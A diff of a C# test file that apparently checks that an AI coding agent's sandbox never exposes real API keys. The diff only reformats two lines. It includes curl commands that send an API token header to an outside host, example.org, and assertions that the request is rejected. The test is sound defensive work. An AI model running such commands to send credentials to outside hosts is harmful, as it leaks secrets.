@@ -25,7 +25,9 @@ public sealed class NothingToStealTests(SharedInstallation shared)
         );
         await screen.WaitForAsync(text => text.Contains("made.txt is written.", StringComparison.Ordinal), "Enter");
         var real = agent == "codex" ? installation.Keys.OpenAi : installation.Keys.Anthropic;
-        var inside = Search.ProcessesIn((await installation.RunAsync("exec", name, "--", "readlink", "/proc/self/ns/pid")).ShouldSucceed().Out.Trim());
+        var inside = Search.ProcessesIn(
+            (await installation.RunAsync("exec", name, "--", "readlink", "/proc/self/ns/pid")).ShouldSucceed().Out.Trim()
+        );
         inside.Count.ShouldBeGreaterThan(1);
 
         var search = new Search(new KeyForms(real));
@@ -69,7 +71,10 @@ public sealed class NothingToStealTests(SharedInstallation shared)
 
         var elsewhere = await ExecAsync("p-one", "curl -sS -m 20 -H \"x-api-key: $API_TOKEN\" https://example.org/docs/start");
         elsewhere.ShouldContain("placeholder_misuse");
-        var foreign = await ExecAsync("p-two", $"curl -sS -m 20 -o /dev/null -w '%{{http_code}}' -H 'x-api-key: {one}' https://example.org/docs/start");
+        var foreign = await ExecAsync(
+            "p-two",
+            $"curl -sS -m 20 -o /dev/null -w '%{{http_code}}' -H 'x-api-key: {one}' https://example.org/docs/start"
+        );
         foreign.ShouldBe("403");
         installation.Vendors.Seen.ShouldNotContain(request => request.Host == "example.org" && request.KeyFingerprint != "none");
 
